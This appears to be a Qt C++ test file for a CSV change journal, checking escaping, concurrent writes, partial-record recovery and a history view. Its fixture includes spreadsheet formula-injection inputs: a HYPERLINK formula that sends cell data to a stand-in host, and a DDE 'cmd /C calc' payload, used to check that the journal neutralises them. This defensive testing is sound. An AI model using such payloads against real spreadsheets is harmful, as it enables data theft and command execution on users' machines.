#include "Historyformunit.h"
#include "Journal.h"
#include "KivoFixture.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTableView>

#include <cstdio>
#include <cstdlib>
#include <iostream>
#include <string>

namespace {

// Set for a child of this executable: a copy of Kivo journalling into the data folder it names.
constexpr char ChildVar[] = "KIVO_TEST_JOURNAL_DATA";

TJournalRecord Record(const QString &project, const QDateTime &time, int variable,
                      const QString &outcome) {
    TJournalRecord r;
    r.Time = time;
    r.Project = project;
    r.Variable = variable;
    r.Title = QStringLiteral("Var%1").arg(variable);
    r.OldValue = QStringLiteral("0");
    r.NewValue = QStringLiteral("1");
    r.NewStatus = 1;
    r.Kind = QStringLiteral("change");
    r.Outcome = outcome;
    return r;
}

TJournalRecord TakenOf(const TJournalRecord &change, double after) {
    TJournalRecord r = Record(change.Project, change.Time.addMSecs(qint64(after * 1000)),
                              change.Variable, QStringLiteral("taken"));
    r.ChangeTime = change.Time;
    r.TakenAfter = after;
    return r;
}

// Text outside ASCII, commas, quotes and line breaks in every free-text field, and text a
// spreadsheet would evaluate, from a project file anybody may have written.
std::vector<TJournalRecord> Awkward(const QString &project) {
    const QDateTime time = QDateTime::fromString("2026-12-07T18:14:58.123Z", Qt::ISODateWithMs);
    TJournalRecord saved = Record(project, time, 3, QStringLiteral("saved"));
    saved.Title = QStringLiteral("Цена, € \"net\"");
    saved.OldValue = QStringLiteral("1,5");
    saved.NewValue = QStringLiteral("say \"hi\"\r\nnext\nline");
    TJournalRecord refused = Record(project, time.addSecs(2), 12, QStringLiteral("not saved"));
    refused.Title = QStringLiteral("日本");
    refused.Kind = QStringLiteral("undo");
    refused.Reason = QStringLiteral("The variable moved,\r\nnothing was written.");
    refused.Group = 1733594098123;
    refused.Kivo = QStringLiteral("-a1b2");
    refused.OldValue = QStringLiteral("\r=1");
    refused.NewValue = QStringLiteral("'=1");
    TJournalRecord formula = Record(project, time.addSecs(4), 7, QStringLiteral("\t=1"));
    formula.Title = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"Price\")");
    formula.OldValue = QStringLiteral("-0.25");
    formula.NewValue = QStringLiteral("+1+1");
    formula.Kind = QStringLiteral("-x");
    formula.Reason = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    return {saved, TakenOf(saved, 0.812), refused, formula};
}

// Whether a spreadsheet would evaluate the text or it begins with ': what the journal writes with
// a ' in front. Plain numbers keep their sign.
bool Marked(const QString &value) {
    static const QRegularExpression number(QStringLiteral("^[+-]?[0-9]+(\\.[0-9]+)?$"));
    return !value.isEmpty() && QStringView(u"=+-@\t\r'").contains(value.front()) &&
           !number.match(value).hasMatch();
}

// A child: for each project read from stdin, journals one change of the variable and says so.
int JournalEachLine(const QString &data, int variable) {
    TJournal journal;
    for (std::string line; std::getline(std::cin, line);) {
        const QString project = QString::fromStdString(line).trimmed();
        if (!TJournal::FileFor(project).startsWith(data))
            return 3; // not into the real data folder
        if (!journal.Append(Record(project, QDateTime::currentDateTimeUtc(), variable, "saved"))) {
            std::fprintf(stderr, "%s\n", qPrintable(journal.Error()));
            return 1;
        }
        std::printf("\n");
        std::fflush(stdout);
    }
    return 0;
}

// The file's fifteen columns of a record, as a reader of the file must find them.
QStringList Fields(const TJournalRecord &r) {
    const auto time = [](const QDateTime &t) {
        return t.isValid() ? t.toUTC().toString(Qt::ISODateWithMs) : QString();
    };
    return {time(r.Time),
            r.Project,
            QString::number(r.Variable),
            r.Title,
            r.OldValue,
            r.NewValue,
            QString::number(r.OldStatus),
            QString::number(r.NewStatus),
            r.Kind,
            r.Outcome,
            r.Reason,
            time(r.ChangeTime),
            r.Outcome == "taken" ? QString::number(r.TakenAfter, 'f', 3) : QString(),
            r.Group ? QString::number(r.Group) : QString(),
            r.Kivo};
}

} // namespace

class TestJournal : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void roundTripPastDamage();
    void readByPythonCsv();
    void firstChangesAtOnce();
    void folderInPlaceOfFile();
    void historyPairsTakenAndShowsRefusals();

private:
    QString Project(const QString &name) const { return FDir.filePath(name); }
    QTemporaryDir FDir;
    std::unique_ptr<TConfigFolder> FRoaming;
};

void TestJournal::initTestCase() {
    qputenv("XDG_DATA_HOME", QFile::encodeName(FDir.filePath("data")));
    FRoaming = std::make_unique<TConfigFolder>(FDir.filePath("data")); // Windows
    if (!TJournal::FileFor(Project("x.kvo")).startsWith(FDir.path()))
        QFAIL("the journal would be written into the real data folder");
}

void TestJournal::roundTripPastDamage() {
    const QString project = Project("round.kvo");
    const std::vector<TJournalRecord> records = Awkward(project);
    TJournal journal;
    for (const TJournalRecord &r : records)
        QVERIFY(journal.Append(r));

    // A record cut short inside a quoted field, then one written after it.
    QFile file(TJournal::FileFor(project));
    QVERIFY(file.open(QIODevice::Append));
    file.write("2026-12-07T18:15:00.000Z,\"cut short");
    file.close();
    QVERIFY(journal.Append(records[0]));

    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    file.close();
    QVERIFY(bytes.startsWith(
        "\xEF\xBB\xBFtime_utc,project,variable,title,old_value,new_value,old_status,"
        "new_status,kind,outcome,reason,change_time_utc,taken_after_s,group,kivo\r\n"));
    // A record of an older copy of Kivo, without the last two columns.
    QVERIFY(file.open(QIODevice::Append));
    file.write("2026-12-07T18:16:00.000Z,p,2,Old,0,1,0,1,change,saved,,,\r\n");
    file.close();
    const std::vector<TJournalRecord> loaded = TJournal::Load(project);
    QCOMPARE(loaded.size(), records.size() + 2);
    for (size_t i = 0; i + 1 < loaded.size(); ++i)
        QCOMPARE(Fields(loaded[i]), Fields(records[i % records.size()]));
    QCOMPARE(loaded.back().Title, QStringLiteral("Old"));
    QVERIFY(loaded.back().Kivo.isEmpty() && loaded.back().Group == 0);

    // A tail of exactly the last record, which spans lines, holds it whole.
    const qsizetype last = bytes.lastIndexOf("\n2026-12-07T18:14:58.123Z,") + 1;
    QCOMPARE(TJournal::Load(project, bytes.size() - last).size(), size_t(1));
}

void TestJournal::readByPythonCsv() {
    const QString python = QStandardPaths::findExecutable(QStringLiteral("python3"));
    if (python.isEmpty())
        QSKIP("python3 is not installed");
    const QString project = Project("python.kvo");
    const std::vector<TJournalRecord> records = Awkward(project);
    TJournal journal;
    for (const TJournalRecord &r : records)
        QVERIFY(journal.Append(r));

    // The cells as a spreadsheet finds them, and the values by the README's rule.
    QProcess reader;
    reader.start(python,
                 {"-c",
                  "import csv, json, sys\n"
                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                  "    cells = list(csv.reader(f))\n"
                  "values = [[v[1:] if v.startswith(\"'\") else v for v in r] for r in cells]\n"
                  "print(json.dumps([cells, values]))\n",
                  TJournal::FileFor(project)});
    QVERIFY(reader.waitForFinished(60000));
    QCOMPARE(reader.exitCode(), 0);
    const QJsonArray read = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
    const QJsonArray cells = read[0].toArray();
    const QJsonArray values = read[1].toArray();
    QCOMPARE(values.size(), qsizetype(records.size() + 1));
    QCOMPARE(values[0].toArray().first().toString(), QStringLiteral("time_utc"));
    for (size_t i = 0; i < records.size(); ++i) {
        const QStringList row = values[qsizetype(i) + 1].toVariant().toStringList();
        QCOMPARE(row, Fields(records[i]));
        // No cell a spreadsheet evaluates, and no ' but where the value needs one.
        for (qsizetype c = 0; c < row.size(); ++c) {
            const QString value = row[c];
            QCOMPARE(cells[qsizetype(i) + 1][c].toString(), Marked(value) ? '\'' + value : value);
        }
    }
}

void TestJournal::firstChangesAtOnce() {
    QProcess copies[3];
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(ChildVar, FDir.path());
    for (int i = 0; i < 3; ++i) {
        copies[i].setProcessEnvironment(env);
        copies[i].start(QCoreApplication::applicationFilePath(), {QString::number(i + 1)});
    }
    // Each round the copies are let go at once on a project not journalled yet.
    for (int round = 0; round < 100; ++round) {
        const QString project = Project(QStringLiteral("first%1.kvo").arg(round));
        for (QProcess &copy : copies) {
            copy.write(project.toUtf8() + '\n');
            copy.waitForBytesWritten(30000);
        }
        for (QProcess &copy : copies) {
            while (!copy.canReadLine())
                QVERIFY2(copy.waitForReadyRead(30000), copy.readAllStandardError().constData());
            copy.readLine();
        }
        QFile file(TJournal::FileFor(project));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        // One byte order mark and one header, at the start.
        QCOMPARE(bytes.lastIndexOf("\xEF\xBB\xBF"), 0);
        QCOMPARE(bytes.lastIndexOf("time_utc,project,"), 3);
        QCOMPARE(TJournal::Load(project).size(), std::size(copies));
    }
    for (QProcess &copy : copies) {
        copy.closeWriteChannel();
        QVERIFY(copy.waitForFinished(30000));
        QCOMPARE(copy.exitCode(), 0);
    }
    // The losers' files with the header are gone.
    const QDir folder = QFileInfo(TJournal::FileFor(Project("x.kvo"))).dir();
    QCOMPARE(folder.entryList(QDir::Files).filter(QRegularExpression("\\.csv$")),
             folder.entryList(QDir::Files));
}

void TestJournal::folderInPlaceOfFile() {
    const QString project = Project("blocked.kvo");
    const QString file = TJournal::FileFor(project);
    QVERIFY(QDir().mkpath(file));
    TJournal journal;
    QSignalSpy appended(&journal, &TJournal::Appended);
    QVERIFY(!journal.Append(Awkward(project)[0])); // an exception would fail the test here
    QVERIFY2(journal.Error().contains(QDir::toNativeSeparators(file)), qPrintable(journal.Error()));
    QCOMPARE(appended.count(), 1);
}

void TestJournal::historyPairsTakenAndShowsRefusals() {
    const QString project = Project("history.kvo");
    const QDateTime session = QDateTime::currentDateTimeUtc();
    const auto at = [&](int seconds, int variable, const char *outcome) {
        return Record(project, session.addSecs(seconds), variable, outcome);
    };
    TJournalRecord refused = at(-20, 4, "not saved");
    refused.Kind = QStringLiteral("undo");
    refused.Reason = QStringLiteral("The variable moved.");
    TJournal journal;
    for (const TJournalRecord &r :
         {at(-60, 1, "saved"), at(-30, 2, "saved"), TakenOf(at(-30, 2, "saved"), 0.812), refused})
        QVERIFY(journal.Append(r));

    THistoryForm form(nullptr);
    form.ShowProject(project, session);
    const QAbstractItemModel *table = form.findChild<QTableView *>("StringGrid1")->model();
    const auto cell = [table](int row, int column) {
        return table->index(row, column).data().toString();
    };
    QCOMPARE(table->rowCount(), 3); // the taken record completes its change's row
    QCOMPARE(cell(0, 2), QStringLiteral("Undo: 0 → 1, status idle → changed by Kivo"));
    QCOMPARE(cell(0, 3), QStringLiteral("not saved: The variable moved."));
    QCOMPARE(cell(1, 1), QStringLiteral("#2 Var2"));
    QCOMPARE(cell(1, 3), QStringLiteral("taken after 0.8 s"));
    QVERIFY(cell(1, 0).endsWith(session.addSecs(-30).toLocalTime().toString("HH:mm:ss")));
    QCOMPARE(cell(2, 3), QStringLiteral("no answer seen"));

    // Live: a change saved now waits until its taken record comes; other projects stay out.
    connect(&journal, &TJournal::Appended, &form, &THistoryForm::Add);
    const TJournalRecord now = Record(project, QDateTime::currentDateTimeUtc(), 5, "saved");
    QVERIFY(journal.Append(now));
    QVERIFY(journal.Append(Record(Project("other.kvo"), now.Time, 5, "saved")));
    QCOMPARE(table->rowCount(), 4);
    QVERIFY(cell(0, 3).startsWith(QStringLiteral("waiting ")));
    QVERIFY(journal.Append(TakenOf(now, 1.5)));
    QCOMPARE(table->rowCount(), 4);
    QCOMPARE(cell(0, 3), QStringLiteral("taken after 1.5 s"));
}

int main(int argc, char *argv[]) {
    if (qEnvironmentVariableIsSet(ChildVar)) {
        QCoreApplication app(argc, argv); // the same application name, so the same folder
        return argc == 2 ? JournalEachLine(qEnvironmentVariable(ChildVar), std::atoi(argv[1])) : 2;
    }
    QApplication app(argc, argv);
    TestJournal test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}
#include "tst_journal.moc"
